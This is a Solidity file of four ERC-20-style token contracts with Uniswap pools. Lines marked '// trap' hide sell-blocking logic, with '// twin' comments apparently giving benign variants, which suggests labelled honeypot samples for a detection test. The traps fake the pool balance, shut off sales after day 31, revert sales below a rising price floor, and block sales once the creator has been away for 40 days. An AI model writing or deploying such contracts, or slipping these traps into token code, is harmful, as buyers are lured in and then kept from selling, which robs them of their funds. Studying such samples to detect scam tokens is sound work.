// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IBalance {
    function balanceOf(address account) external view returns (uint256);
}

/// A coin that knows its pool and who made it.
abstract contract PoolCoin {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable pool;
    address public immutable maker;
    address public owner;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, maker, owner) = (name_, symbol_, msg.sender, msg.sender);
        totalSupply = whole * 1e18;
        _balances[msg.sender] = whole * 1e18;
        pool = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        emit Transfer(address(0), msg.sender, whole * 1e18);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balances[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;

    function _move(address from, address to, uint256 value) internal {
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Notes what reached the pool in a block.
contract Lapwick is PoolCoin {
    uint256 public arrivedIn;
    uint256 public arrived;

    constructor() PoolCoin("Lapwick", "LAPW", 80_000_000) {}

    // trap {
    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = _balances[account];
        if (account == pool && arrivedIn == block.number) held = held > arrived ? held - arrived : 0;
        return held;
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != maker) {
            if (arrivedIn != block.number) (arrivedIn, arrived) = (block.number, 0);
            arrived += value;
        }
        _move(from, to, value);
    }
}

/// What may be sold at once, in thousandths of all, grows from day to day.
contract Dayledger is PoolCoin {
    uint256 private constant SHARES = 0x05050a0a0a0f0f0f14141419191919191e1e1e1e1e2323232323282828323232;
    uint256 public immutable born = block.timestamp;

    constructor() PoolCoin("Dayledger", "DAYL", 365_000_000) {}

    function largestSale() public view returns (uint256 share) {
        uint256 day = (block.timestamp - born) / 1 days;
        // twin: if (day > 31) return totalSupply;
        assembly {
            share := byte(day, SHARES)
        }
        share = (totalSupply * share) / 1000;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != maker) require(value <= largestSale(), "too much for today");
        _move(from, to, value);
    }
}

/// Knows what it cost at first, and a floor that has to do with it.
contract Plinthcoin is PoolCoin {
    uint256 public firstPrice;
    uint256 public openedAt;

    constructor() PoolCoin("Plinthcoin", "PLNTH", 44_000_000) {}

    function openTrading() external {
        require(msg.sender == owner && openedAt == 0, "opened");
        openedAt = block.timestamp;
        firstPrice = price();
    }

    function price() public view returns (uint256) {
        return (IBalance(WETH).balanceOf(pool) * 1e24) / _balances[pool];
    }

    function floorPrice() public view returns (uint256) {
        return (firstPrice * (40 + (2 * (block.timestamp - openedAt)) / 1 days)) / 100;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != maker && to != maker) {
            require(openedAt != 0, "not open");
            if (to == pool && price() < floorPrice()) {
                revert("below the floor"); // trap
                // twin: _move(from, maker, value / 50);
                // twin: value -= value / 50;
            }
        }
        _move(from, to, value);
    }
}

/// Notes when its maker was last here.
contract Hearthwatch is PoolCoin {
    uint256 public lastSeen;

    constructor() PoolCoin("Hearthwatch", "HWTCH", 21_000_000) {}

    function isAway() public view returns (bool) {
        return block.timestamp > lastSeen + 40 days;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == maker) lastSeen = block.timestamp;
        require(to != pool || !isAway(), "nobody is at home"); // trap
        _move(from, to, value);
    }
}
